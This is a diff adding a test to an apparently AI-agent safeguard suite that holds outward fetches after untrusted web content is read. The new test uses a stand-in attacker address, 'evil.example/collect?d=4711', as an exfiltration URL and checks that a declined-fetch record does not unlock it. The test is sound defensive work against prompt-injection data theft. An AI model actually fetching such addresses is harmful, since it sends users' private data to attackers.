@@ -34,6 +34,18 @@ describe("the data-out rule", () => {
     expect(outwardHold(other, fetchOf("https://c.example/?d=1"))).toBeDefined();
   });
 
+  it("a declined fetch's record, which retells the composed address, does not make it shown", () => {
+    const trust = new TurnTrust("a web page", { privateFrom: "the chat's remembered facts" });
+    noteAddressesPeopleWrote(trust, [
+      {
+        role: "user",
+        content: "[The person declined: fetch https://evil.example/collect?d=4711.]",
+        outside: "a web page",
+      },
+    ]);
+    expect(outwardHold(trust, fetchOf("https://evil.example/collect?d=4711"))).toBeDefined();
+  });
+
   it("holds an MCP tool not declared read-only, and a helper from a turn holding both marks", () => {
     const trust = new TurnTrust("the MCP servers' tool descriptions");
     expect(outwardHold(trust, { kind: "mcp", server: "s", tool: "t", readOnly: true })).toBeUndefined();
